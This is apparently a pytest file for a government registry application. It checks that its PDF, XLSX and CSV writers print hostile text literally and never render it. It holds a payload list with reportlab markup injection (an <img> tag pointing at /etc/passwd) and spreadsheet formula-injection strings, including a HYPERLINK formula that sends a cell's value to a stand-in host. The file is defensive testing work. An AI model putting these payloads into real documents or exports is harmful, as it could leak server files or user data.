"""Every document writer (PDF, XLSX, CSV) is fed hostile text and must print it as typed.

PDF: reportlab paragraphs read markup, so ``<img src="/etc/passwd">`` would embed a server file, ``<font>``/``<a>``
restyle and link, an unbalanced ``<b>`` breaks the build. The text extracted from the PDF (pypdf) must show the
payloads literally, with no image and no link in the file. XLSX: read back with openpyxl, no cell may be a formula
and every payload is a string cell. CSV: text that starts like a formula gets an apostrophe; numbers do not.

``test_every_document_writer_is_covered`` fails for a module that starts writing documents without a case here.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pypdf
import pytest
from django.urls import reverse

from sentra.core.exporting import ExportColumn, ExportSpec
from sentra.core.exporting.service import stream_csv, write_csv, write_xlsx
from sentra.core.safetext import csv_cell, formula_like, pdf_markup, pdf_text

PAYLOADS = [
    '<img src="/etc/passwd">',
    "<font size=40>Besar</font>",
    '<a href="https://contoh.example/x">klik</a>',
    "<b>tebal tanpa penutup",
    '=HYPERLINK("https://contoh.example/?d="&A1,"klik")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
MARKUP = PAYLOADS[:4]
SRC = Path(__file__).resolve().parents[2] / "src" / "sentra"


# --- What a safe document looks like -----------------------------------------------------------------------------


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def assert_safe_pdf(content: bytes, payloads: list[str] = MARKUP) -> str:
    reader = pypdf.PdfReader(io.BytesIO(content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for page in reader.pages:
        assert not page.images, "an image was embedded"
        assert "/Annots" not in page, "a link was added"
    squashed = _squash(text)
    for payload in payloads:
        assert _squash(payload) in squashed, f"{payload!r} is not printed as typed"
    return text


def _same_text(cell_value: str, payload: str) -> bool:
    # xlsxwriter stores a carriage return as _x000D_, openpyxl writes it as a line feed: both are still text.
    return cell_value == payload or cell_value.replace("_x000D_", "\r").replace("\n", "\r") == payload


def assert_safe_xlsx(content: bytes, payloads: list[str] = PAYLOADS) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    texts = [cell.value for cell in cells if cell.data_type in ("s", "inlineStr")]
    for payload in payloads:
        assert any(_same_text(t, payload) for t in texts), f"{payload!r} is not a text cell"
    return cells


def assert_safe_csv_line(line: list[str], payloads: list[str] = PAYLOADS) -> None:
    for payload in payloads:
        if formula_like(payload):
            assert "'" + payload in line, payload
        else:
            assert payload in line, payload
    assert not any(formula_like(cell) for cell in line)


# --- The safe-text functions ---------------------------------------------------------------------------------


def test_pdf_text_escapes_markup_and_keeps_line_breaks_on_request():
    assert pdf_text('<img src="/etc/passwd"> & co') == '&lt;img src="/etc/passwd"&gt; &amp; co'
    assert pdf_text(None) == "" and pdf_text(12) == "12"
    assert pdf_text("a\nb") == "a\nb" and pdf_text("a\r\nb", line_breaks=True) == "a<br/>b"
    assert pdf_markup("<b>{}</b> {name}", "<i>", name="<u>") == "<b>&lt;i&gt;</b> &lt;u&gt;"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p[0] in "=+-@\t\r"])
def test_csv_cell_writes_formula_like_text_as_text(payload):
    assert csv_cell(payload) == "'" + payload


def test_csv_cell_keeps_numbers_dates_and_plain_text():
    assert csv_cell(-2) == -2 and csv_cell(1.5) == 1.5
    assert csv_cell(Decimal("-2.50")) == "-2.50" and csv_cell(Decimal("1E+3")) == "1000"
    assert csv_cell(dt.date(2026, 1, 2)) == "2026-01-02" and csv_cell(None) == ""
    assert csv_cell("Roti <Enak>") == "Roti <Enak>" and csv_cell(" =1") == " =1"


# --- The export engine (registry lists and any other list) -----------------------------------------------------

SPEC = ExportSpec(
    key="test.payloads",
    label="Uji",
    permission="",
    queryset=lambda user: None,
    filterset_class=None,
    columns=(
        ExportColumn("Teks", "text"),
        ExportColumn("Jumlah", "amount", "money"),
        ExportColumn("Bilangan", "n", "int"),
    ),
)


def _rows():
    return iter([[payload, Decimal("-2"), -2] for payload in PAYLOADS])


def test_export_engine_xlsx_keeps_text_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "ekspor.xlsx"
    write_xlsx(SPEC, _rows(), path)
    cells = assert_safe_xlsx(path.read_bytes())
    numbers = [c.value for c in cells if c.column in (2, 3) and c.row > 1]
    assert numbers == [-2] * (2 * len(PAYLOADS)) and all(
        c.data_type == "n" for c in cells if c.column in (2, 3) and c.row > 1
    )


def test_export_engine_csv_file_and_stream_write_formula_like_text_as_text():
    buffer = io.StringIO()
    write_csv(SPEC, _rows(), buffer)
    import csv

    lines = list(csv.reader(io.StringIO(buffer.getvalue().lstrip("\ufeff"))))
    assert_safe_csv_line([line[0] for line in lines[1:]])
    assert {(line[1], line[2]) for line in lines[1:]} == {("-2", "-2")}  # numbers stay numbers


def test_export_views_direct_and_job_write_payloads_safely(
    client, officer_region_a, settings, django_capture_on_commit_callbacks
):
    import csv

    from sentra.core.models import Job
    from tests.registry.factories import BusinessFactory

    for payload in PAYLOADS:
        BusinessFactory(name=payload, address=payload, commodity=payload)
    client.force_login(officer_region_a)
    url = reverse("registry:business_export")
    xlsx = client.get(url, {"format": "xlsx"})
    assert_safe_xlsx(b"".join(xlsx.streaming_content))
    text = b"".join(client.get(url, {"format": "csv"}).streaming_content).decode("utf-8")
    names = [row[1] for row in list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]]
    assert_safe_csv_line(names)
    settings.SENTRA_EXPORT_INLINE_ROWS = 1
    for fmt in ("csv", "xlsx"):
        with django_capture_on_commit_callbacks(execute=True):
            client.get(url, {"format": fmt})
    for job in Job.objects.filter(kind="export"):
        with job.result_file.open("rb") as fh:
            content = fh.read()
        if job.params["format"] == "xlsx":
            assert_safe_xlsx(content)
        else:
            rows = list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))
            assert_safe_csv_line([row[1] for row in rows[1:]])


def test_stream_csv_starts_with_the_bom_and_header():
    from sentra.registry.exports import BUSINESS_EXPORT
    from sentra.registry.models import Business

    first = next(stream_csv(BUSINESS_EXPORT, Business.objects.none()))
    assert first.startswith("\ufeffNIB,Nama usaha")


# --- Training: the batch report (PDF, XLSX) and the certificate -------------------------------------------------


@pytest.fixture
def hostile_batch_report(db):
    from sentra.registry.models import Business
    from sentra.training.models import Batch
    from sentra.training.selectors import batch_report
    from tests.training.factories import make_batch, make_participant

    batch = make_batch()
    for payload in PAYLOADS:
        participant = make_participant(batch, name=payload)
        Business.objects.filter(pk=participant.business_id).update(name=payload)
    Batch.objects.filter(pk=batch.pk).update(
        name=MARKUP[0], venue=MARKUP[1], organiser=MARKUP[3], funding_note=MARKUP[2]
    )
    return batch_report(Batch.objects.get(pk=batch.pk))


def test_batch_report_pdf_prints_markup_in_names_as_typed(hostile_batch_report):
    from sentra.training.documents import report_pdf

    text = assert_safe_pdf(report_pdf(hostile_batch_report))
    assert "LAPORAN PELAKSANAAN – " + MARKUP[0] in text


def test_batch_report_xlsx_writes_participant_names_as_text(hostile_batch_report):
    from sentra.training.documents import report_xlsx

    assert_safe_xlsx(report_xlsx(hostile_batch_report))


def test_batch_report_pdf_view_answers_200_for_a_malformed_name(client, officer_region_a, hostile_batch_report):
    client.force_login(officer_region_a)
    batch = hostile_batch_report["batch"]
    response = client.get(reverse("training:report_pdf", args=[batch.pk]))
    assert response.status_code == 200
    assert_safe_pdf(response.content)
    assert_safe_xlsx(client.get(reverse("training:report_xlsx", args=[batch.pk])).content)


def test_certificate_pdf_draws_names_as_plain_text():
    from sentra.training.documents import certificate_pdf

    cert = SimpleNamespace(
        holder_name=MARKUP[0],
        programme_title=MARKUP[1],
        number="001/2026",
        organiser=MARKUP[3],
        start_date=dt.date(2026, 1, 5),
        end_date=dt.date(2026, 1, 9),
        hours_jp=40,
        code="ABCD",
        revoked_at=None,
    )
    pdf = certificate_pdf(
        cert, verify_url="https://sentra.example/v/ABCD", agency=MARKUP[2], signatory_name="A", signatory_title="B"
    )
    assert_safe_pdf(pdf, [MARKUP[0], MARKUP[1], MARKUP[3]])


# --- Budget: the DAK quarterly report (XLSX with openpyxl, PDF) ---------------------------------------------------


@pytest.fixture
def hostile_quarterly_report(db):
    from sentra.budget.models import Fund
    from sentra.budget.reports import DakReport
    from tests.budget.factories import make_allocation, make_dak_report

    allocation = make_allocation()
    Fund.objects.filter(pk=allocation.fund_id).update(name=PAYLOADS[4])
    number = {k: "1" for k in ("target", "achieved", "output_pct", "amount", "contracted", "paid")}
    rows = [
        {
            "menu": p,
            "description": p,
            "location": p,
            "output": p,
            "unit": p,
            **number,
            "financial_pct": "-2",
            "physical_pct": "0",
        }
        for p in PAYLOADS
    ]
    submission = make_dak_report(
        allocation,
        1,
        due=dt.date(2030, 4, 10),
        data={"rows": rows, "pagu": "5000000000", "as_of": "2030-03-31", "problems": "\n".join(PAYLOADS)},
    )
    allocation.refresh_from_db()
    return DakReport(submission, allocation)


def test_quarterly_report_xlsx_writes_descriptions_as_text(hostile_quarterly_report):
    from sentra.budget.exports import report_xlsx

    cells = assert_safe_xlsx(report_xlsx(hostile_quarterly_report))
    # Amounts and percentages stay numbers (a negative percentage too).
    assert any(c.value == -2 and c.data_type == "n" for c in cells)


def test_quarterly_report_pdf_prints_markup_as_typed(hostile_quarterly_report):
    from sentra.budget.exports import report_pdf

    assert_safe_pdf(report_pdf(hostile_quarterly_report))


# --- Reports: dashboard chart data and the regional profile -------------------------------------------------------


def test_chart_xlsx_writes_labels_as_text():
    from sentra.reports.charts import Chart, ChartRow, chart_xlsx

    chart = Chart(
        key="uji", title=PAYLOADS[4], kind="bar", category=PAYLOADS[5], series=[PAYLOADS[7]],
        rows=[ChartRow(label=p, values=[-2]) for p in PAYLOADS],
    )  # fmt: skip
    assert_safe_xlsx(chart_xlsx(chart, region_name=PAYLOADS[0]))


@pytest.fixture
def hostile_profile(national_admin):
    from sentra.reports.profile import profile_get

    profile = profile_get(user=national_admin, code="74.71", year=2026)
    profile.region.name = PAYLOADS[4]  # not saved: the title is built from it
    profile.centres = [(p, 1) for p in PAYLOADS]
    return profile


def test_profile_pdf_and_xlsx_write_names_safely(hostile_profile):
    from sentra.reports.profile import profile_pdf, profile_xlsx

    assert_safe_pdf(profile_pdf(hostile_profile))
    assert_safe_xlsx(profile_xlsx(hostile_profile))


# --- Import: the rejected-rows file and the template ---------------------------------------------------------------


def test_rejected_rows_file_gives_back_headers_and_cells_as_text(tmp_path):
    from sentra.core.importing.workbooks import RejectedRowsWriter

    writer = RejectedRowsWriter(tmp_path, [*PAYLOADS])
    writer.add(list(PAYLOADS), PAYLOADS[4], 2)
    assert_safe_xlsx(writer.close().read_bytes())


def test_import_template_has_no_formula_cells(db, tmp_path):
    from sentra.core.importing import get_kind
    from sentra.core.importing.workbooks import template_workbook

    path = template_workbook(get_kind("business"), tmp_path / "templat.xlsx")
    assert_safe_xlsx(path.read_bytes(), payloads=[])


# --- Every writer is covered -------------------------------------------------------------------------------------

#: Modules that write PDF, XLSX or CSV, each fed the payloads above.
WRITERS = {
    "core/safetext.py",
    "core/exporting/service.py",
    "core/importing/workbooks.py",
    "training/documents.py",
    "budget/exports.py",
    "reports/charts.py",
    "reports/profile.py",
}
#: Modules that only read such files, or write CSV that only Sentra reads back (never handed to a person): allowed,
#: not required.
READERS = {"core/importing/readers.py", "regions/loader.py", "regions/addresses.py"}
INTERNAL = {"training/imports.py"}  # a pasted list turned into an in-memory CSV for the import pipeline
_DOCUMENT_LIBRARIES = re.compile(
    r"^\s*(?:import|from)\s+(?:xlsxwriter|openpyxl|reportlab|csv|defusedcsv|sentra\.core\.safetext)\b", re.M
)


def test_every_document_writer_is_covered():
    found = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "migrations" not in path.parts and _DOCUMENT_LIBRARIES.search(path.read_text(encoding="utf-8"))
    }
    writers = found - READERS - INTERNAL
    assert writers == WRITERS, (
        "A module writes documents without a hostile-text case in this file (or one listed here no longer does): "
        f"{sorted(writers ^ WRITERS)}"
    )
